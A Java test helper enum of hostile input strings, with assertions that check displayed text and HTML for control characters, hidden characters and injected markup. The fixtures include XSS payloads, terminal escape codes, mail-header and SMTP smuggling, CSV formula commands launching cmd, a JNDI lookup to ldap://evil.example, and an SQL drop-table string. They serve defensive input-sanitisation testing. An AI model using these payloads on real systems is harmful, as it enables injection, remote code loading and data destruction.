package dev.sluice.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Texts that are meant to do harm where they are shown, and how to see that they do none. Each may stand in any member. */
public enum HostileText {
    SCRIPT("<script>alert(1)</script><img src=x onerror=alert(1)>"),
    ATTRIBUTE("\" onmouseover=\"alert(1)\" x='"),
    END_OF_ELEMENT("--></pre></textarea></title><svg/onload=alert(1)><!--"),
    LINK("javascript:alert(1) [a](javascript:alert(1)) <https://evil.example|here>"),
    COLOURS("\u001b[31mred\u001b[0m\u001b[2J\u001b[1;1H"),
    TERMINAL_TITLE("\u001b]0;owned\u0007\u001b]8;;https://evil.example\u001b\\here"),
    C1("\u009b31mred\u0085next line\u0090"),
    HEADERS("a\r\nBcc: evil@example.net\r\nX-Evil: 1\r\n\r\nbody"),
    END_OF_MAIL("a\r\n.\r\nRCPT TO:<evil@example.net>\r\nDATA\r\n"),
    BARE_LINE_FEEDS("a\n.\nMAIL FROM:<evil@example.net>\n\r.\r\r"),
    ENCODED_WORD("=?utf-8?q?a=0D=0ABcc:_evil@example.net?= %0d%0aX-Evil: 1"),
    READING_DIRECTION("\u202etxt.exe\u202c \u2066a\u2069 \u200f\u200e\u061c"),
    HIDDEN("a\u200bb\u2060c\ufeffd\u00ade\u180e\udb40\udc41"),
    NUL("a\u0000b"),
    LINES("a\u2028b\u2029c\u000bd\fe"),
    LOG_LINE("x\n2026-01-01T00:00:00.000Z ERROR Desk: everything is lost"),
    FORMULA("=cmd|' /c calc'!A1"),
    FORMULAS("@SUM(1+1)*cmd|' /c calc'!A1\t+1-1"),
    JSON("\",\"admin\":true,\"x\":\"\\"),
    JSON_END("\\\"}]}\\u0022"),
    TEMPLATE("{{title}} {{{data}}} {{#samples}} {{=<% %>=}} {{>x}}"),
    VARIABLE("${PATH} $${PATH} ${jndi:ldap://evil.example/a} %n%s {0}"),
    MENTIONS("<!channel> <!here> <@U1> <@&1> @everyone @here <#C1>"),
    MARKUP("*a* _b_ ~c~ `d` ```e``` > f || g || # h"),
    SQL("'; drop table sluice_key; --"),
    EMOJI("\ud83d\ude00\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67".repeat(150)),
    COMBINING("Z\u0351\u036b\u0343".repeat(150));

    private static final Pattern TAG = Pattern.compile("<([^>]*)>?");
    private static final Pattern NAME =
            Pattern.compile("/?([A-Za-z0-9]+)(\\s.*)?|!(doctype|DOCTYPE) html", Pattern.DOTALL);
    private static final Pattern HANDLER = Pattern.compile("\\son\\w+\\s*=|javascript:", Pattern.CASE_INSENSITIVE);
    private static final Set<Integer> KEPT = Set.of((int) '\n', (int) '\t');

    private final String text;

    HostileText(String text) {
        this.text = text;
    }

    /** The text. */
    public String text() {
        return text;
    }

    /** What a database gives back: none of them keeps a NUL. */
    public String stored() {
        return text.replace('\0', '\ufffd');
    }

    /** At most {@code most} UTF-16 code units of it, no pair cut in two. */
    public String text(int most) {
        if (text.length() <= most) {
            return text;
        }
        return text.substring(0, Character.isHighSurrogate(text.charAt(most - 1)) ? most - 1 : most);
    }

    /** Fails if {@code shown} could steer a terminal, hide, or turn what is read; it may have lines and tabs. */
    public static void assertHarmless(String shown) {
        assertThat(shown.codePoints().filter(each -> isHarmful(each)).mapToObj("U+%04X"::formatted))
                .as("characters that do something, in: %s", shown)
                .isEmpty();
    }

    /** Fails unless {@code shown} is harmless and one line. */
    public static void assertOneLine(String shown) {
        assertHarmless(shown);
        assertThat(shown).doesNotContain("\n", "\t", "\u2028", "\u2029");
    }

    /** Fails if the page has an element that is not among {@code elements}, a handler, or a script of its own. */
    public static void assertNoMarkup(String page, Set<String> elements) {
        assertHarmless(page);
        Set<String> strange = new TreeSet<>();
        Matcher tag = TAG.matcher(page);
        while (tag.find()) {
            Matcher name = NAME.matcher(tag.group(1));
            boolean known = name.matches()
                    && (name.group(1) == null || elements.contains(name.group(1)))
                    && !HANDLER.matcher(withoutValues(tag.group(1))).find();
            if (!known) {
                strange.add(tag.group());
            }
        }
        assertThat(strange).as("markup in %s", page).isEmpty();
    }

    /** Text in a quoted value is text, but for where a link leads. */
    private static String withoutValues(String tag) {
        return tag.replaceAll("(?<!href=)(?<!src=)\"[^\"]*\"", "\"\"");
    }

    private static boolean isHarmful(int point) {
        int type = Character.getType(point);
        boolean joiner = point == 0x200C || point == 0x200D;
        return !joiner
                && !KEPT.contains(point)
                && (type == Character.CONTROL || type == Character.FORMAT || type == Character.SURROGATE);
    }
}
